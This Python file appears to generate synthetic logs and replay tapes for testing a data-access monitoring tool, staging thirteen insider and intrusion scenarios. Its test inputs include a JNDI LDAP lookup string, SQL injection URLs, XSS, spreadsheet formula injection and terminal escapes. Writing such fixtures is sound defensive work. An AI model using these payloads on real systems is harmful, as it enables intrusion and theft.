"""A company with eleven logs, a fortnight of honest past, and a few minutes in which thirteen things are done to it.

Comes in: a seed, when it begins, how long it lasts. Goes out: the lines of the past, a tape of what is written when
(late by up to 100 s, in halves, twice, in bursts, shuffled, hostile; logs are renamed and copied away in the middle of
it, one falls silent), and a configuration. Nothing is written here but that.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from random import Random
from typing import Any
from zlib import crc32

import yaml

LOGS = {
    "crm_edge": ("crm.access.log", "combined", "crm"),
    "crm_audit": ("crm.audit.log", "audit.json", "crm"),
    "billing": ("billing.json.log", "nginx.json", "billing"),
    "portal": ("portal.audit.log", "audit.json", "portal"),
    "docs": ("docs.access.log", "auto", "docs"),
    "branch": ("branch.access.log", "combined", "branch"),
    "archive": ("archive.access.log", "auto", "archive"),
    "hr": ("hr.access.log", "combined", "hr"),
    "api": ("api.json.log", "auto", "api"),
    "db": ("db.csv", "postgresql.csv", "db"),
    "desk": ("desk.access.log", "combined", "desk"),
}
CANARY = 104_729
_DAY, _PAST = 86_400, 13
_AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
_STAFF = ("crm", "crm", "billing", "portal", "portal", "docs", "branch", "branch", "archive", "hr", "desk", "api", "db")
_HOSTILE = (
    b"\0\0\0", b"\xff\xfe garbage \xc3\x28", b'{"a":' * 3_000, b'"' * 5_000, b"A" * 200_000,
    "\u202e\u2066 x \0".encode(), b"%s%n${jndi:ldap://198.51.100.9/a}", b"", b" ", b"{}", b"[]", b"null",
    b'{"time":"2026-13-45T99:99:99Z"}',
)  # fmt: skip


@dataclass(frozen=True)
class Step:
    """What happens to a log at a moment (seconds since 1970).

    Attributes:
        act: ``write``; ``half``, after which the log waits for what follows; ``rename``; ``copy`` and truncate.
    """

    at: float
    log: str
    act: str = "write"
    text: bytes = b""


@dataclass
class Company:
    """What is done, as (moment, log, line)."""

    luck: Random
    begins: float
    lasts: float
    lines: list[tuple[float, str, bytes]] = field(default_factory=list)
    statements: int = 0

    def __post_init__(self) -> None:
        names = [f"{service[:2]}.{self.luck.randrange(1_000, 9_999)}{n}" for n, service in enumerate(_STAFF * 2)]
        self.staff = [
            (service, name, f"192.0.2.{10 + n}")
            for n, (service, name) in enumerate(zip(_STAFF * 2, names, strict=True))
        ]
        self.own = {name: [self.client() for _ in range(160)] for name in names}
        self.watched = [self.client() for _ in range(40)]

    def client(self) -> int:
        return self.luck.randrange(20_000, 90_000)

    def line(self, at: float, log: str, text: str) -> None:
        self.lines.append((at, log, text.encode("utf-8", "surrogateescape")))

    def web(
        self, at: float, log: str, who: str, ip: str, asked: str, status: int = 200, size: int = 2_100, **more: str
    ) -> None:
        when = _moment(int(at)).strftime("%d/%b/%Y:%H:%M:%S +0000")
        tail = f'"{more.get("from_page", "-")}" "{more.get("agent", _AGENT)}"'
        self.line(at, log, f'{ip} - {who} [{when}] "{asked} HTTP/1.1" {status} {size} {tail}')

    def proxied(self, at: float, log: str, who: str, ip: str, path: str, agent: str = _AGENT) -> None:
        told = {
            "time": _moment(int(at)).isoformat(), "remote_addr": ip, "remote_user": who, "request_method": "GET",
            "request_uri": path, "status": 200, "body_bytes_sent": 1_800, "request_time": 0.04,
            "http_user_agent": agent, "http_referer": "", "host": "x.example.org", "http_x_forwarded_for": "",
        }  # fmt: skip
        self.line(at, log, json.dumps(told, ensure_ascii=False, separators=(",", ":")))

    def audited(self, at: float, log: str, who: str, ip: str, act: str, session: str = "", **more: Any) -> None:
        told = {
            "ts": _moment(at).isoformat(timespec="milliseconds").replace("+00:00", "Z"), "user": who,
            "role": "operator", "action": act, "ip": ip, "session": session or f"s{_hash(who + str(at // 28_800)):x}",
            "ua": _AGENT, "status": "ok", "service": log.partition("_")[0],
        } | more  # fmt: skip
        self.line(at, log, json.dumps(told, ensure_ascii=False, separators=(",", ":")))

    def asked(self, at: float, who: str, ip: str, sql: str) -> None:
        self.statements += 1
        when = f"{_moment(at):%Y-%m-%d %H:%M:%S}.{int(at * 1_000) % 1_000:03} UTC"
        self.line(
            at,
            "db",
            f'{when},"{who}","clients",{1_000 + _hash(who) % 500},"{ip}:5{_hash(ip) % 10_000:04}",'
            f'65{_hash(who):08x}.{_hash(who) % 9_999:x},{self.statements},"SELECT",{when},3/{self.statements},0,LOG,'
            f'00000,"statement: {sql}",,,,,,,,,"psql","client backend",,0',
        )

    def read(self, at: float, service: str, who: str, ip: str, client: int) -> None:
        """Somebody opens a client's card; in the CRM the edge and the application tell of it."""
        luck, number = self.luck, str(client)
        if service == "crm":
            self.web(at, "crm_edge", who, ip, f"GET /crm/clients/{client}")
            told = luck.uniform(-0.4, 1.2)
            self.audited(at + told, "crm_audit", who, ip, "client.view", client_id=number)
        elif service == "portal":
            self.audited(at, "portal", who, ip, "client.view", client_id=number)
        elif service in ("billing", "api"):
            way = f"/api/v1/accounts?client_id={client}" if service == "billing" else f"/api/clients/{client}"
            self.proxied(at, service, who, ip, way)
        elif service == "db":
            self.asked(at, who, ip, f"SELECT name, phone FROM crm.clients WHERE id = {client}")
        else:
            self.web(at, service, who, ip, f"GET /{service}/clients/{client}")

    def works(self, first: float, last: float, every: float) -> None:
        """The staff deal with their own clients."""
        for service, who, ip in self.staff:
            at = first + self.luck.uniform(0, min(600, last - first))
            while at < last:
                client = self.luck.choice(self.own[who])
                self.read(at, service, who, ip, client)
                for more in range(self.luck.choice((1, 1, 2, 3))):
                    self._goes_on(at + 2 + more * 3, service, who, ip, client)
                at += self.luck.expovariate(1 / every)

    def _goes_on(self, at: float, service: str, who: str, ip: str, client: int) -> None:
        if service == "crm":
            self.web(at, "crm_edge", who, ip, f"POST /crm/clients/{client}/notes", 204, 0)
        elif service == "portal":
            self.audited(at, "portal", who, ip, "client.update", client_id=str(client))
        elif service not in ("billing", "api", "db"):
            self.web(at, service, who, ip, f"GET /{service}/clients/{client}/documents/{client % 997}", 200, 88_000)

    def past(self) -> list[tuple[float, str, bytes]]:
        """Return what was done before it begins."""
        for day in range(_PAST, 0, -1):
            middle = self.begins - day * _DAY
            self.works(middle - 3 * 3_600, middle + 3 * 3_600, 1_100)
        self.works(self.begins - 2 * 3_600, self.begins - 5, 420)
        told, self.lines = sorted(self.lines, key=lambda line: line[0]), []
        return [line for line in told if line[0] < self.begins - 5]

    def present(self) -> list[tuple[float, str, bytes]]:
        """Return what is done, and what stands between it; one log falls silent."""
        self.works(self.begins, self.begins + self.lasts, 45)
        for leak in _LEAKS:
            leak(self, self.lasts / 600)
        for log in LOGS:
            for _ in range(12):
                self.lines.append((self._sometime(), log, self.luck.choice(_HOSTILE)))
        for number in range(33):
            way = f"GET /crm/clients/%0a{'%00..%2f' * (number % 3)}77"
            agent = '\x1b[2J\u202e"'
            self.web(self._sometime(), "crm_edge", 'x" 200 "', "203.0.113.99", way, agent=agent, from_page='"><script>')
        ends = self.begins + self.lasts * 0.4
        return sorted((line for line in self.lines if line[1] != "hr" or line[0] < ends), key=lambda line: line[0])

    def _sometime(self) -> float:
        return self.begins + self.luck.uniform(0, self.lasts)


def _moment(at: float) -> datetime:
    return datetime.fromtimestamp(at, UTC)


def _hash(text: str) -> int:
    return crc32(text.encode())


# -- what is done to it; paces are those of ten minutes --------------------------------------------------------------


def _export(made: Company, pace: float) -> None:
    for number in range(3):
        at = made.begins + (40 + number * 30) * pace
        made.web(at, "crm_edge", "n.export", "192.0.2.77", "GET /crm/clients/export?fmt=csv", 200, 6_200_000)
        made.audited(at + 0.3, "crm_audit", "n.export", "192.0.2.77", "client.export", "sexp", rows=33_000)


def _walk(made: Company, pace: float) -> None:
    client = 41_000
    for piece in range(7):
        at = made.begins + (30 + piece * 75) * pace
        for number in range(14):
            made.read(at + number * 1.5, "branch", "k.walker", "192.0.2.78", client)
            client += 1
        for number in range(6):
            made.read(at + 25 + number * 5, "branch", "k.walker", "192.0.2.78", made.client())


def _session(made: Company, pace: float) -> None:
    at = made.begins + 60 * pace
    for number in range(20):
        when = at - 40 * pace + number * 8
        made.audited(when, "portal", "p.vera", "192.0.2.79", "client.view", "s1", client_id=str(made.client()))
    for number in range(90):
        when, who = at + number * 1.7 * pace, ("p.vera", "203.0.113.9")
        made.audited(when, "portal", *who, "client.view", "s1", ua="curl/8.5.0", client_id=str(made.client()))


def _snoop(made: Company, pace: float) -> None:
    for number in range(30):
        made.read(made.begins + (100 + number * 9) * pace, "desk", "d.snoop", "192.0.2.80", made.watched[number])


def _injection(made: Company, pace: float) -> None:
    for number in range(25):
        way = f"GET /crm/clients?q=%27%20UNION%20SELECT%20name,phone%20FROM%20clients%20LIMIT%20{number * 100},100--%20"
        answer = (200, 310_000) if number > 5 else (500, 200)
        at = made.begins + (150 + number * 2) * pace
        made.web(at, "crm_edge", "-", "198.51.100.23", way, *answer, agent="sqlmap/1.8")


def _admin(made: Company, pace: float) -> None:
    at = made.begins + 200 * pace
    for number in range(4):
        end = "" if number % 2 else " ORDER BY id"
        made.asked(at + number * 20 * pace, "adm.root", "192.0.2.81", f"SELECT * FROM crm.clients{end}")
    for number in range(70):
        made.read(at + 20 + number * 2.2 * pace, "crm", "adm.root", "192.0.2.81", made.client())


def _documents(made: Company, pace: float) -> None:
    for number in range(120):
        way = f"GET /docs/clients/{made.client()}/documents/{number}"
        made.web(made.begins + (120 + number * 2.5) * pace, "docs", "o.docs", "192.0.2.82", way, 200, 90_000)


def _key(made: Company, pace: float) -> None:
    for number in range(200):
        at = made.begins + (180 + number * 0.8) * pace
        made.read(at, "api", "svc-sync", "203.0.113.44", 70_000 + number * 7)


def _guessed(made: Company, pace: float) -> None:
    at, ip = made.begins + 250 * pace, "203.0.113.77"
    for number in range(60):
        made.web(at + number * 0.7 * pace, "crm_edge", "h.olga", ip, "POST /crm/login", 401, 90)
    at += 44 * pace
    made.web(at, "crm_edge", "h.olga", ip, "POST /crm/login", 302, 0)
    for number in range(80):
        made.read(at + 2 + number * 1.4 * pace, "crm", "h.olga", ip, made.client())


def _crawl(made: Company, pace: float) -> None:
    for number in range(95):
        made.read(made.begins + (300 + number * 1.6) * pace, "archive", "r.crawl", "192.0.2.83", 52_000 + number)


def _haste(made: Company, pace: float) -> None:
    for number in range(320):
        made.read(made.begins + (330 + number * 0.6) * pace, "desk", "v.haste", "192.0.2.84", made.client())


def _hostile_name(made: Company, pace: float) -> None:
    who = "<img src=x onerror=alert(1)>\u202eevil\u0007\x1b[31m{{7*7}}"
    agent = "=cmd|' /C calc'!A0\n\rINCIDENT fake \x1b]0;x\x07"
    for number in range(130):
        way = f"/api/v1/accounts?client_id={made.client()}"
        made.proxied(made.begins + (90 + number * 1.2) * pace, "billing", who, "203.0.113.200", way, agent)


def _canary(made: Company, pace: float) -> None:
    made.read(made.begins + 400 * pace, "portal", "c.curious", "192.0.2.85", CANARY)


_LEAKS: tuple[Callable[[Company, float], None], ...] = (
    _export, _walk, _session, _snoop, _injection, _admin, _documents, _key, _guessed, _crawl, _haste, _hostile_name,
    _canary,
)  # fmt: skip


# -- how it comes to stand in the logs -------------------------------------------------------------------------------


def tape(made: Company, lines: list[tuple[float, str, bytes]]) -> list[Step]:
    """Return what is written when."""
    luck, steps = made.luck, list[Step]()
    held = {log: made.begins + luck.uniform(0.2, 0.6) * made.lasts for log in ("billing", "api", "crm_audit")}
    for number, (at, log, text) in enumerate(lines):
        came = at + _delay(luck, log)
        until = held.get(log, 0.0) + 25
        if until - 25 <= came < until:
            came = until + number * 1e-6  # a burst, in order
        end = b"\r\n" if log == "archive" else b"\n"
        if luck.random() < 0.06 and len(text) > 20:
            cut = luck.randrange(1, len(text))
            steps += [Step(came, log, "half", text[:cut]), Step(came, log, "write", text[cut:] + end)]
        else:
            steps.append(Step(came, log, "write", text + end))
        if luck.random() < 0.02:
            steps.append(Step(came + 0.01, log, "write", text + end))
    for log, act, first in (("branch", "rename", 0.7), ("docs", "copy", 0.5)):
        every = made.lasts / 4
        steps += [Step(made.begins + every * (first + n), log, act) for n in range(4)]
    return sorted(steps, key=lambda step: step.at)


def _delay(luck: Random, log: str) -> float:
    late = 0.15 if log == "archive" else 0.02
    if luck.random() < late:
        return luck.uniform(20 if log == "archive" else 2, 100)
    return luck.uniform(0, 8) if log == "desk" else luck.expovariate(4)


# -- how it is configured --------------------------------------------------------------------------------------------


def write_lists(folder: Path, made: Company) -> None:
    """Write the lists of watched clients and of accounts that the configuration names."""
    (folder / "watched.csv").write_text("client\n" + "".join(f"{client}\n" for client in made.watched))
    names = [f"{who},operator,human,co" for _, who, _ in made.staff]
    names += ["p.vera,operator,human,co", "svc-sync,sync,service,co", "n.export,manager,human,co"]
    (folder / "roles.csv").write_text("\n".join(["user,role,type,organization", *names, ""]))


def write_settings(folder: Path, name: str, port: int, login: str, *, rotated: bool = False) -> Path:
    """Write a configuration with a state of its own; ``rotated``: of a replay, which is given old files, too."""
    sources = []
    for log, (file, form, service) in LOGS.items():
        path = f"{folder}/logs/{file}"
        paths = [path, f"{path}.*"] if rotated else [path]
        one = {"name": log, "paths": paths, "format": form, "service": service, "start": "beginning"}
        sources.append(one | ({"silent_after": "2m"} if log == "hr" else {}))
    people = [
        {"name": "anna", "accounts": [f"user:{login}"], "targets": ["desk"]},
        {"name": "boris", "targets": ["desk"]},
    ]
    config = {
        "state": f"{folder}/{name}",
        "timezone": "America/Los_Angeles",
        "organization": "Live Co",
        "web": {"host": "127.0.0.1", "port": port},
        "sources": sources,
        "records": {
            "canaries": [str(CANARY)],
            "watched": f"{folder}/watched.csv",
            "data_classes": {
                each: {"confidentiality": "special" if each == "docs" else "confidential", "title": each}
                for each in ("identity", "contact", "docs", "financial")
            },
            "routes": [*_web_routes(), *_audit_routes(), *_other_routes()],
        },
        "actors": {
            "roles_file": f"{folder}/roles.csv",
            "service_accounts": ["svc-*"],
            "admins": ["adm.*"],
            "networks": {"office": ["192.0.2.0/24"]},
        },
        "team": {"people": people, "roles": {"soc": ["anna", "boris"], "lead": ["boris"]}},
        "notify": {"targets": {"desk": {"url": "json://127.0.0.1:9/"}}},
    }
    path = folder / f"{name}.yml"
    path.write_text(yaml.safe_dump(config, sort_keys=False))
    path.chmod(0o600)
    return path


def _web_routes() -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    for service in ("crm", "docs", "branch", "archive", "hr", "desk"):
        cards, one = f"/{service}/clients", f"/{service}/clients/{{c}}"
        client = {"object": "client", "classes": ["identity", "contact"]}
        found += [
            {"service": service, "path": f"/{service}/login", "action": "login"},
            {"service": service, "path": f"{cards}/export", "action": "export", "bytes_per_record": 182} | client,
            {"service": service, "path": f"{one}/documents/{{d}}", "methods": ["GET"], "action": "download",
             "object": "document", "classes": ["docs"], "subject": "{c}", "record": "{d}"},
            {"service": service, "path": f"{one}/notes", "methods": ["POST"], "action": "update", "object": "client",
             "classes": ["contact"], "subject": "{c}"},
            {"service": service, "path": one, "methods": ["GET"], "action": "read", "subject": "{c}"} | client,
            {"service": service, "path": cards, "methods": ["GET"], "action": "search", "bytes_per_record": 412}
            | client,
        ]  # fmt: skip
    return found


def _audit_routes() -> list[dict[str, Any]]:
    client = {"object": "client", "classes": ["identity", "contact"]}
    return [
        {"service": service, "when": {"action": f"client.{told}"}, "action": act} | client | more
        for service in ("crm", "portal")
        for told, act, more in (
            ("view", "read", {"subject": "field:client_id"}),
            ("update", "update", {"subject": "field:client_id"}),
            ("export", "export", {"count": "field:rows"}),
        )
    ]


def _other_routes() -> list[dict[str, Any]]:
    return [
        {"service": "billing", "path": "/api/v1/accounts", "methods": ["GET"], "action": "read", "object": "account",
         "classes": ["financial"], "subject": "query:client_id"},
        {"service": "api", "path": "/api/clients/{c}", "methods": ["GET"], "action": "read", "object": "client",
         "classes": ["identity"], "subject": "{c}"},
        {"table": "crm.clients", "object": "client", "classes": ["identity", "contact"], "subject": "where:id"},
    ]  # fmt: skip
